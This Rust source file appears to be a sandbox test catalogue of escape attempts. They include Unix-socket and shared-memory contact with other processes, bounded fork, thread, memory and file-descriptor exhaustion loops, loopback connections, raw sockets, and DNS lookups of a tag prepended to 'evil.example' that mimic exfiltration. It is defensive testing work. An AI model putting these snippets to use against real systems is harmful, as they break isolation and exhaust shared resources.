//! Meeting others on this machine, taking more than a share, and networks without a door.

use crate::attempt::Effect::{Done, Heard, Told};
use crate::attempt::{Class, c, node, py, unknown};
use sandbox::Layer::{self, Account, Calls, Files, Group, Landlock, Limits, Network, Objects, Privileges, Proc, Processes, Sockets, User};

const FOLDERS: &[Layer] = &[Files, Landlock];
const NETWORK: &[Layer] = &[Network, Sockets];
const ABSTRACT: &[Layer] = &[Network, Landlock, Sockets];
const OBJECTS: &[Layer] = &[Objects, Account, Calls];
const RAW: &[Layer] = &[Calls, Privileges, Account, User, Processes, Network, Sockets, Objects, Proc];
/// Only root has rights to lose.
const ENTITLED: &[Layer] = &[Privileges, Account, User, Processes, Network, Objects, Proc];
const SHARE: &[Layer] = &[Limits, Group];

pub(crate) const MEETING: Class = Class {
    name: "sockets and memory of others",
    attempts: &[
        py("speaks at an abstract socket", Heard, ABSTRACT, "stream(socket.AF_UNIX, '\\0' + ABSTRACT, TAG.encode())"),
        py("sends to an abstract socket", Heard, ABSTRACT, "datagram(socket.AF_UNIX, '\\0' + ABSTRACT + '-d', TAG.encode())"),
        c(
            "speaks at an abstract socket by hand",
            Heard,
            ABSTRACT,
            r#"struct sockaddr_un at = {AF_UNIX, {0}}; strcpy(at.sun_path + 1, ABSTRACT); int fd = socket(AF_UNIX, SOCK_STREAM, 0); if (connect(fd, (void *)&at, sizeof(sa_family_t) + 1 + strlen(ABSTRACT))) say(strerror(errno)); else put(fd);"#,
        ),
        py("waits at an abstract socket", Told, ABSTRACT, "waits(socket.socket(socket.AF_UNIX), '\\0' + ABSTRACT + '-back')"),
        node("speaks at a socket by its path", Heard, FOLDERS, "await stream({ path: OTHER + '/door.sock' }, TAG)"),
        py("sends to a socket by its path", Heard, FOLDERS, "datagram(socket.AF_UNIX, OTHER + '/mail.sock', TAG.encode())"),
        py("speaks at a socket through a link", Heard, FOLDERS, "os.symlink(OTHER + '/door.sock', GIVEN + '/d')\ntry: stream(socket.AF_UNIX, GIVEN + '/d', TAG.encode())\nfinally: os.remove(GIVEN + '/d')"),
        c(
            "hands a descriptor to another",
            Heard,
            FOLDERS,
            r#"struct sockaddr_un at = {AF_UNIX, OTHER "/door.sock"}; int fd = socket(AF_UNIX, SOCK_STREAM, 0); if (connect(fd, (void *)&at, sizeof at)) { say(strerror(errno)); return; }
            char room[CMSG_SPACE(4)] = {0}; struct iovec text = {tag, strlen(tag)}; struct msghdr message = {.msg_iov = &text, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
            struct cmsghdr *head = CMSG_FIRSTHDR(&message); head->cmsg_level = SOL_SOCKET; head->cmsg_type = SCM_RIGHTS; head->cmsg_len = CMSG_LEN(4); sendmsg(fd, &message, 0); close(fd);"#,
        ),
        py("waits at a socket by its path", Told, FOLDERS, "one = socket.socket(socket.AF_UNIX)\ntry: waits(one, OTHER + '/back.sock')\nfinally:\n    if os.path.exists(OTHER + '/back.sock'): os.remove(OTHER + '/back.sock')"),
        node("writes into a pipe by its path", Heard, FOLDERS, "const fd = fs.openSync(OTHER + '/pipe', fs.constants.O_WRONLY | fs.constants.O_NONBLOCK); fs.writeSync(fd, TAG); fs.closeSync(fd)"),
        py("finds shared memory", Told, OBJECTS, "i = libc.shmget(SHM, 0, 0); libc.shmat.restype = ctypes.c_void_p; at = libc.shmat(i, None, 0o10000); say(ctypes.string_at(at, 40).decode() if i >= 0 else i)"),
        py("takes a message of others", Told, OBJECTS, "i = libc.msgget(SHM, 0); room = ctypes.create_string_buffer(80); say(libc.msgrcv(i, room, 64, 0, 0o4000)); say(room.raw[8:].split(b'\\0')[0].decode())").where_possible(),
        c("finds a semaphore", Done, OBJECTS, "done(syscall(SYS_semget, SHM, 0, 0) >= 0);"),
        node("reads a file of shared memory", Told, FOLDERS, "read('/dev/shm/escape-' + MARK)"),
        py("knows the name of the host", Done, &[Objects], "done(os.uname().nodename == HOST)"),
        c("takes a lock of others", Done, FOLDERS, r#"done(open(OTHER "/secret", O_RDWR) >= 0);"#),
    ],
};

pub(crate) const SHARES: Class = Class {
    name: "more than a share",
    attempts: &[
        py(
            "forks without end",
            Done,
            SHARE,
            "
made = []
try:
    while len(made) < 150:
        pid = os.fork()
        if pid == 0: time.sleep(30); os._exit(0)
        made.append(pid)
except OSError as fault: say(fault)
done(len(made) == 150)
for pid in made: os.kill(pid, 9)
for pid in made: os.waitpid(pid, 0)",
        ),
        c("threads without end", Done, SHARE, "pthread_t one; int made = 0; pthread_attr_t small; pthread_attr_init(&small); pthread_attr_setstacksize(&small, 65536); pthread_attr_setdetachstate(&small, PTHREAD_CREATE_DETACHED); while (made < 150 && !pthread_create(&one, &small, sleeper, 0)) made++; done(made == 150); awake = 1; usleep(200000); awake = 0;"),
        node("starts programs without end", Done, SHARE, "const made = []; for (let at = 0; at < 120; at++) { const one = child.spawn('/bin/sleep', ['30']); one.on('error', () => {}); if (one.pid) made.push(one); } done(made.length === 120); for (const one of made) one.kill('SIGKILL'); await soon(resolve => setTimeout(resolve, 200));"),
        c("takes memory without end", Done, SHARE, "for (int at = 0; at < 40; at++) { char *more = malloc(4 << 20); memset(more, 1, 4 << 20); } sleep(3); say(\"DONE\");").starved(),
        py("opens files without end", Done, &[Limits], "f = []\ntry:\n    while len(f) < 900: f.append(open('/dev/null'))\nfinally: done(len(f) == 900); f.clear()"),
        node("opens sockets without end", Done, &[Limits], "const f = []; try { while (f.length < 900) f.push(fs.openSync('/dev/zero', 'r')); } finally { done(f.length === 900); f.forEach(fs.closeSync); }"),
        c("copies a descriptor without end", Done, &[Limits], "int made = 0, fd; while (made < 900 && (fd = dup(0)) >= 0) made++; done(made == 900); for (fd = 3; fd < 1000; fd++) close(fd);"),
        c("makes its files more", Done, &[Limits], "struct rlimit more = {900, 900}; done(setrlimit(RLIMIT_NOFILE, &more) == 0);"),
        c("makes its processes more", Done, SHARE, "struct rlimit is, more = {100, 100}; getrlimit(RLIMIT_NPROC, &is); done((is.rlim_max == RLIM_INFINITY || is.rlim_max > 100) && setrlimit(RLIMIT_NPROC, &more) == 0);"),
        py("makes a large file", Done, &[Limits], "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\nwith open(GIVEN + '/large', 'wb') as f:\n    try: f.truncate(2 << 30); done(True)\n    finally: os.remove(GIVEN + '/large')"),
        c("leaves a core", Done, &[Limits], "struct rlimit is; getrlimit(RLIMIT_CORE, &is); done(is.rlim_max);").where_possible(),
        py("fills its scratch", Done, FOLDERS, "fd = os.open('/tmp/escape-' + MARK, os.O_CREAT | os.O_RDWR, 0o600)\ntry: os.posix_fallocate(fd, 0, 300 << 20); done(True)\nfinally: os.close(fd); os.remove('/tmp/escape-' + MARK)").where_possible(),
        c("fills its shared memory with names", Done, FOLDERS, r#"char at[64]; int made = 0, n; for (n = 0; n < 4200; n++) { snprintf(at, 64, "/dev/shm/e%s-%d", MARK, n); int fd = open(at, O_CREAT | O_WRONLY, 0600); if (fd >= 0) made++, close(fd); } done(made == 4200);
        for (n = 0; n < 4200; n++) { snprintf(at, 64, "/dev/shm/e%s-%d", MARK, n); unlink(at); }"#),
        unknown("plays with priorities of disks", "reached(syscall(SYS_ioprio_set, 1, 0, 0));"),
    ],
};

pub(crate) const DIRECT: Class = Class {
    name: "networks without a door",
    attempts: &[
        py("connects to this host", Heard, NETWORK, "stream(socket.AF_INET, ('127.0.0.1', TCP), TAG.encode())"),
        node("connects to this host by name", Heard, NETWORK, "await stream({ host: '127.0.0.1', port: TCP }, TAG)"),
        c("connects to nowhere, which is here", Heard, NETWORK, r#"put(to(AF_INET, SOCK_STREAM, "0.0.0.0", TCP));"#),
        node("connects by a number", Heard, NETWORK, "await stream({ host: '2130706433', port: TCP }, TAG)"),
        py("connects over version 6", Heard, NETWORK, "stream(socket.AF_INET6, ('::1', TCP6), TAG.encode())").where_possible(),
        c("connects to a mapped address", Heard, NETWORK, r#"put(to(AF_INET6, SOCK_STREAM, "::ffff:127.0.0.1", TCP));"#).where_possible(),
        c(
            "connects at the first byte",
            Heard,
            NETWORK,
            r#"struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(TCP), .sin_addr = {htonl(0x7f000001)}}; int fd = socket(AF_INET, SOCK_STREAM, 0); if (sendto(fd, tag, strlen(tag), MSG_FASTOPEN, (void *)&at, sizeof at) < 0) say(strerror(errno)); close(fd);"#,
        ),
        py("sends a datagram", Heard, NETWORK, "datagram(socket.AF_INET, ('127.0.0.1', UDP), TAG.encode())"),
        node("sends a datagram in its own way", Heard, NETWORK, "await datagram('udp4', UDP, '127.0.0.1', TAG)"),
        c("sends a datagram over version 6", Heard, NETWORK, r#"put(to(AF_INET6, SOCK_DGRAM, "::ffff:127.0.0.1", UDP));"#).where_possible(),
        node("asks for a page", Heard, NETWORK, "await page({ host: '127.0.0.1', port: TCP, path: '/' + TAG })"),
        node(
            "fetches",
            Heard,
            NETWORK,
            "await Promise.race([fetch(`http://127.0.0.1:${TCP}/${TAG}`).catch(fault => say(fault.cause.code)), soon(() => {})])",
        ),
        py("asks a name server outside", Heard, NETWORK, "datagram(socket.AF_INET, ('127.0.0.1', UDP), question(TAG + '.evil.example'))"),
        py(
            "asks a name server outside over TCP",
            Heard,
            NETWORK,
            "q = question(TAG + '.evil.example'); stream(socket.AF_INET, ('127.0.0.1', TCP), struct.pack('>H', len(q)) + q)",
        ),
        py("waits at a port", Told, NETWORK, "waits(socket.socket(socket.AF_INET), ('127.0.0.1', BACK))"),
        py("waits for datagrams", Told, NETWORK, "waits(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), ('127.0.0.1', BACK))"),
        node(
            "serves pages to the host",
            Told,
            NETWORK,
            "await soon(resolve => { const one = net.createServer(other => { other.on('data', text => { say(text); one.close(); resolve(); }); other.on('error', () => {}); }); one.on('error', fault => { say(fault.code); resolve(); }); one.listen(BACK, '127.0.0.1'); setTimeout(() => one.close(), 2500); })",
        ),
    ],
};

pub(crate) const SOCKETS: Class = Class {
    name: "raw and other sockets",
    attempts: &[
        py("has packets", Done, RAW, "socket.socket(socket.AF_PACKET, socket.SOCK_RAW); done(True)").where_possible(),
        c("has raw datagrams", Done, RAW, "done(socket(AF_INET, SOCK_RAW, 255) >= 0);").where_possible(),
        py("has raw echoes", Done, RAW, "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); done(True)").where_possible(),
        c("has raw echoes of version 6", Done, RAW, "done(socket(AF_INET6, SOCK_RAW, 58) >= 0);").where_possible(),
        c("asks for packets", Done, &[Calls], "asked(AF_PACKET, SOCK_DGRAM, 0);"),
        c("speaks to the audit", Done, &[Calls], "asked(AF_NETLINK, SOCK_RAW, 9);"),
        c("hears of devices", Done, &[Calls], "asked(AF_NETLINK, SOCK_RAW, 15);"),
        c("asks about sockets", Done, &[Calls], "asked(AF_NETLINK, SOCK_RAW, 4);"),
        c("speaks to the firewall", Done, &[Calls], "asked(AF_NETLINK, SOCK_RAW, 12);"),
        c("speaks to generic netlink", Done, &[Calls], "asked(AF_NETLINK, SOCK_RAW, 16);"),
        c("speaks to the virtual machine's host", Done, &[Calls], "asked(40, SOCK_STREAM, 0);"),
        c("has the kernel encrypt", Done, &[Calls], "asked(38, SOCK_SEQPACKET, 0);"),
        c("speaks to the keys of networks", Done, &[Calls], "asked(15, SOCK_RAW, 2);"),
        c("speaks to a bus of a car", Done, &[Calls], "asked(29, SOCK_RAW, 1);"),
        c("has packets past the kernel", Done, &[Calls], "asked(44, SOCK_RAW, 0);"),
        c(
            "marks its packets",
            Done,
            ENTITLED,
            "int mark = 7; done(setsockopt(socket(AF_INET, SOCK_DGRAM, 0), SOL_SOCKET, SO_MARK, &mark, 4) == 0);",
        )
        .where_possible(),
        c(
            "takes any address as its own",
            Done,
            ENTITLED,
            "int yes = 1; done(setsockopt(socket(AF_INET, SOCK_DGRAM, 0), IPPROTO_IP, 19, &yes, 4) == 0);",
        )
        .where_possible(),
    ],
};
